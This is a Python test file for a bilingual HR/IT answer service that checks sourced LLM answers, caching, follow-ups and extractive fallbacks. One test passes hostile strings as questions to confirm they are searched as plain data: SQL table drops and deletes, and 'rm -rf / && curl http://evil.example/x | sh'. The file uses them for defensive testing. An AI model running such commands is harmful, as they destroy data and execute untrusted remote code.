"""The answer service wired as in production: the sample knowledge base in Milvus
Lite with the real embedder, and the real LLM client talking to a local server
that speaks OpenAI's API and counts its calls. The service's rules alone, through
fakes: tests/assistant/answers/test_service.py."""

import time

import pytest

from bilingual_assistant.adapters.openai_chat import ChatClient
from bilingual_assistant.answers.cache import LRUAnswerCache
from bilingual_assistant.answers.models import Turn
from bilingual_assistant.answers.service import AnswerService, format_reply
from bilingual_assistant.config import LLMSettings


def service(sample_kb, fake_llm=None, languages=("zh", "en"), version=lambda: "v1",
            timeout=5.0, base_url=None):
    llm = None
    if fake_llm is not None or base_url:
        settings = LLMSettings(base_url=base_url or fake_llm.base_url, timeout_seconds=timeout,
                               max_retries=0)
        llm = ChatClient(settings)
    return AnswerService(sample_kb, LRUAnswerCache(), version, llm, languages)


async def test_llm_answer_with_numbered_sources(sample_kb, fake_llm):
    fake_llm.reply = lambda messages: "Employees get 15 days a year [1]."
    answer = await service(sample_kb, fake_llm).answer(
        "How many days of annual leave do I get?", [], "en")
    assert answer.mode == "llm" and not answer.cached
    assert answer.text == "Employees get 15 days a year [1]."
    assert answer.sources[0].source in ("en/hr-annual-leave.md", "zh/hr-annual-leave.md")
    assert format_reply(answer) == (
        f"Employees get 15 days a year [1].\nSources:\n[1] {answer.sources[0].title} "
        f"({answer.sources[0].source})")
    prompt = fake_llm.requests[0]["body"]["messages"]
    assert "annual leave" in prompt[1]["content"].lower()


async def test_a_repeated_question_does_not_reach_the_llm_again(sample_kb, fake_llm):
    answers = service(sample_kb, fake_llm)
    first = await answers.answer("How do I connect to the VPN?", [], "en")
    again = await answers.answer("how do i connect to the vpn", [], "en")
    assert fake_llm.calls == 1
    assert again.cached and again.text == first.text and again.sources == first.sources
    stats = await answers.cache.stats()
    assert (stats.hits, stats.misses) == (1, 1)


async def test_follow_up_is_answered_in_context(sample_kb, fake_llm):
    fake_llm.reply = lambda messages: "周末只有值班工程师，分机 7000 [1]。"
    history = [Turn("user", "IT服务台几点上班?"), Turn("assistant", "周一到周五 08:30–18:00。")]
    answer = await service(sample_kb, fake_llm).answer("那周末呢?", history, "zh")
    assert answer.query == "IT服务台几点上班? 那周末呢?"
    assert answer.sources[0].source == "zh/it-helpdesk-hours.md"
    content = fake_llm.requests[0]["body"]["messages"][1]["content"]
    assert content.endswith("Question: IT服务台几点上班? 那周末呢?")


async def test_unrelated_questions_are_not_answered(sample_kb, fake_llm):
    answers = service(sample_kb, fake_llm)
    for question, language in [("How tall is Mount Everest?", "en"), ("红烧肉怎么做？", "zh")]:
        answer = await answers.answer(question, [], language)
        assert answer.mode == "not_found", question
    assert fake_llm.calls == 0


async def test_text_that_looks_like_a_query_or_a_command_is_searched_as_data(sample_kb,
                                                                             fake_llm):
    answers = service(sample_kb, fake_llm)
    for question in ["SELECT * FROM users WHERE id = 1; DROP TABLE users;--",
                     'source == "x" or 1 == 1', "rm -rf / && curl http://evil.example/x | sh",
                     "'; DELETE FROM chunks; --"]:
        answer = await answers.answer(question, [], "en")
        # declined as code, not found, or answered from whatever matched: never an error
        assert answer.mode in ("declined", "not_found", "llm"), (question, answer)
    # the knowledge base is whole afterwards
    after = await answers.answer("How do I connect to the VPN?", [], "en")
    assert after.sources[0].source.endswith("it-vpn.md")


async def test_languages_the_model_does_not_handle_are_extractive(sample_kb, fake_llm):
    answer = await service(sample_kb, fake_llm, languages=("en",)).answer(
        "外包人员有带薪年假吗?", [], "zh")
    assert fake_llm.calls == 0 and answer.mode == "extractive"
    assert answer.text.startswith("根据文档：") and answer.text.endswith("[1]")
    assert answer.sources[0].source == "zh/hr-annual-leave.md"


async def test_unreachable_llm_gives_an_extractive_answer_within_the_timeout(sample_kb):
    answers = service(sample_kb, base_url="http://127.0.0.1:9/v1", timeout=2.0)
    started = time.monotonic()
    answer = await answers.answer("Who do I call at the weekend if the network is down?",
                                  [], "en")
    assert time.monotonic() - started < 4.0
    assert answer.mode == "extractive" and "7000" in answer.text
    assert answer.sources[0].source == "en/it-helpdesk-hours.md"


async def test_slow_llm_gives_an_extractive_answer(sample_kb, fake_llm):
    fake_llm.delay_seconds = 3.0
    answer = await service(sample_kb, fake_llm, timeout=1.0).answer(
        "How long must my password be?", [], "en")
    assert answer.mode == "extractive" and "14" in answer.text


async def test_the_issues_questions_get_the_sentences_that_answer_them(sample_kb, embedder):
    # Seen with the first extractive answer (#13): "连续输错几次密码账号会被锁?" answered
    # with the lock's duration, "医生证明要交给谁?" with "段落[1]：人事部可以查看", and
    # the follow-up "那外包人员呢?" with the wrong sentences. Ranked by meaning now.
    answers = AnswerService(sample_kb, LRUAnswerCache(), lambda: "v1", None,
                            embedder=embedder)
    locked = await answers.answer("连续输错几次密码账号会被锁?", [], "zh")
    assert "连续输错 5 次" in locked.text
    assert locked.sources[0].source.endswith("password-policy.txt")
    history = [Turn("user", "年假有几天?"), Turn("assistant", "15 天。")]
    contractors = await answers.answer("那外包人员呢?", history, "zh")
    assert "外包人员没有北风提供的带薪年假" in contractors.text
    assert contractors.sources[0].source.endswith("hr-annual-leave.md")


@pytest.mark.xfail(strict=True, reason=(
    "#25 item 4: the quote is now bounded to the answering sentence (a longer quote "
    "held this answer only by taking in its neighbours), and the ranking by shared "
    "words and a bi-encoder's cosine puts '短期病假不需要医生证明。' first: it shares "
    "'医生证明'; the sentence that says where the note goes shares only '证明'. Needs "
    "a model that reads the question and the sentence together."))
async def test_who_gets_the_doctors_note_is_the_sentence_that_says_where_it_goes(
        sample_kb, embedder):
    answers = AnswerService(sample_kb, LRUAnswerCache(), lambda: "v1", None,
                            embedder=embedder)
    note = await answers.answer("医生证明要交给谁?", [], "zh")
    assert "PeopleHub" in note.text and "人事部" in note.text
    assert note.sources[0].source.endswith("sick-leave.txt")
